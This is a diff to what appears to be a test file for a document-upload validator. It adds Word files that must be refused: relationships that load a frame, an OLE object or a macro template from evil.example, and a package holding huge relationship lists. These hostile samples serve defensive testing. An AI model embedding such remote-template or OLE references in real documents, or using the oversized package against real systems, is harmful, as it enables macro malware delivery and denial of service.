@@ -73,6 +73,23 @@ REFUSED = {
         related(b'<Relationship Type="a/oleObject" Target="mhtml:https://evil.example/x.html!x"/>'),
         Why.MACROS,
     ),
+    "a remote frame": (
+        related(b'<Relationship Type="a/frame" Target="https://evil.example/x.html"/>', "webSettings"),
+        Why.MACROS,
+    ),
+    "a remote object above the text": (
+        related(b'<Relationship Type="a/oleObject" Target="https://evil.example/x.rtf"/>', "header1"),
+        Why.MACROS,
+    ),
+    "a remote template of a part whose name is written otherwise": (
+        word_with(
+            {
+                "Word/_Rels/Settings.xml.rels": b"<Relationships><Relationship "
+                b'Type="a/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
+            }
+        ),
+        Why.MACROS,
+    ),
     "a list of parts that is torn": (packed({"[Content_Types].xml": b"<Types"}), Why.DAMAGED),
     "slides": (packed({"[Content_Types].xml": PPTX_TYPES}), Why.KIND_NOT_TAKEN),
     "gif": (b"GIF89a\x01\0\x01\0", Why.KIND_NOT_TAKEN),
@@ -81,6 +98,10 @@ REFUSED = {
     "rar": (b"Rar!\x1a\x07\x01\0", Why.ARCHIVE),
     "gzip": (b"\x1f\x8b\x08\0\0\0", Why.ARCHIVE),
     "zip with a long list": (packed({f"{n}": b"" for n in range(30_000)}), Why.ARCHIVE),
+    "word with endless lists of what belongs to it": (
+        word_with({f"word/_rels/header{n}.xml.rels": b"<R>" + b"<a/>" * 50_000 + b"</R>" for n in range(6)}),
+        Why.ARCHIVE,
+    ),
     "cut package": (form().content[:-100], Why.DAMAGED),
     "binary": (b"\x01\x02\x03", Why.KIND_NOT_TAKEN),
     "old word": (FILES["old-word"], Why.MACROS),
